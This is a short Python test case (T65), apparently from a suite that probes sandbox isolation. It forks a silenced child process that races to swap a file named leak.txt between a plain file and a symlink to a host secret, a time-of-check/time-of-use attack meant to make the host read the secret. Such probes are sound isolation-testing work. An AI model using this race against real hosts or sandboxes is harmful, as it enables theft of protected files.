# T65: A file that becomes a link to the host's secret whenever the host looks away.
# aim: secret
# sealed: host
# confined: host
# process: host
import os

pid = os.fork()
if pid == 0:
    null = os.open("/dev/null", os.O_RDWR)
    os.dup2(null, 1), os.dup2(null, 2)
    import time
    end = time.monotonic() + 1
    while time.monotonic() < end:
        try:
            open("a", "w").close()
            os.rename("a", "leak.txt")
            os.symlink(canary["secret"], "b")
            os.rename("b", "leak.txt")
        except OSError:
            pass
    os._exit(0)
import time

while not os.path.lexists("leak.txt"):
    time.sleep(0.001)
os.waitpid(pid, 0) if canary["host_pid"] == os.getppid() else None
